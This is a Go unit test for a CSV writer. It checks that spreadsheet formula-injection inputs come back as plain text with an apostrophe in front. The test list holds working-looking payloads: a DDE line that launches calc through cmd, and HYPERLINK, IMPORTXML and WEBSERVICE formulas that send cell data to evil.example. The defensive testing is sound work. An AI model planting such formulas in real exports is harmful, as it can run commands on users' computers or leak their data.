package sheet

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
)

// TestFormulas writes everything that spreadsheets are known to run, and reads it back as they would: no cell is one,
// and each holds its text.
func TestFormulas(t *testing.T) {
	var attacks []string
	for _, sign := range []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"} {
		for _, blank := range []string{"", " ", "   ", "\u00a0", "\ufeff", "\u200b", "\x00"} {
			for _, body := range []string{
				"1+1", `cmd|'/C calc'!A0`, `HYPERLINK("http://evil.example?"&A1,"x")`, `IMPORTXML(CONCAT("http://evil.example",A1),"//a")`,
				`WEBSERVICE("http://evil.example")`, "SUM(A1),\"quoted\"", "=1", "",
			} {
				attacks = append(attacks, blank+sign+body)
			}
		}
	}
	plainTexts := []string{"", "a", "a=1", "1-2", "'=1", "…", "é", " ", "mail@example.org", "\xff=1"}
	var out strings.Builder
	w := NewWriter(&out, false)
	all := slices.Concat(attacks, plainTexts)
	if err := w.Write(all); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	row, err := csv.NewReader(strings.NewReader(out.String())).Read()
	if err != nil || len(row) != len(all) {
		t.Fatalf("%d cells of %d: %v", len(row), len(all), err)
	}
	for i, got := range row {
		want := strings.ReplaceAll(all[i], "\r\n", "\n")
		if i < len(attacks) {
			want = "'" + want
		}
		if got != want {
			t.Errorf("cell %q, want %q", got, want)
		}
	}
}
